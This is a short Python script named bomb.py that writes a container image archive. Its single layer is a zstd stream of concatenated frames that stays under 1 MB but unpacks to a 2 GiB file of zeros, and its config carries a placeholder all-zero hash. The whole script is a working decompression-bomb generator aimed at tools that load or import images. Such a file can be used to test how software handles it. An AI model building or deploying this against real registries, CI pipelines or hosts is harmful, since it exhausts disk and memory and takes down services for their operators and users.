"""bomb.py FILE: writes an archive of less than 1 MB with one layer, of a file of 2 GiB."""
import io
import json
import subprocess
import sys
import tarfile


def packed(data):
    return subprocess.run(["zstd", "-q", "-c"], input=data, stdout=subprocess.PIPE, check=True).stdout


header = tarfile.TarInfo("zeros")
header.size = 2 << 30
layer = packed(header.tobuf()) + packed(bytes(64 << 20)) * 32  # the frames are concatenated
config = {"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": ["sha256:" + 64 * "0"]}}
manifest = [{"Config": "config.json", "RepoTags": ["a:b"], "Layers": ["layer.tar"]}]
with tarfile.open(sys.argv[1], "w") as archive:
    for name, data in (("layer.tar", layer), ("config.json", json.dumps(config).encode()),
                       ("manifest.json", json.dumps(manifest).encode())):
        member = tarfile.TarInfo(name)
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
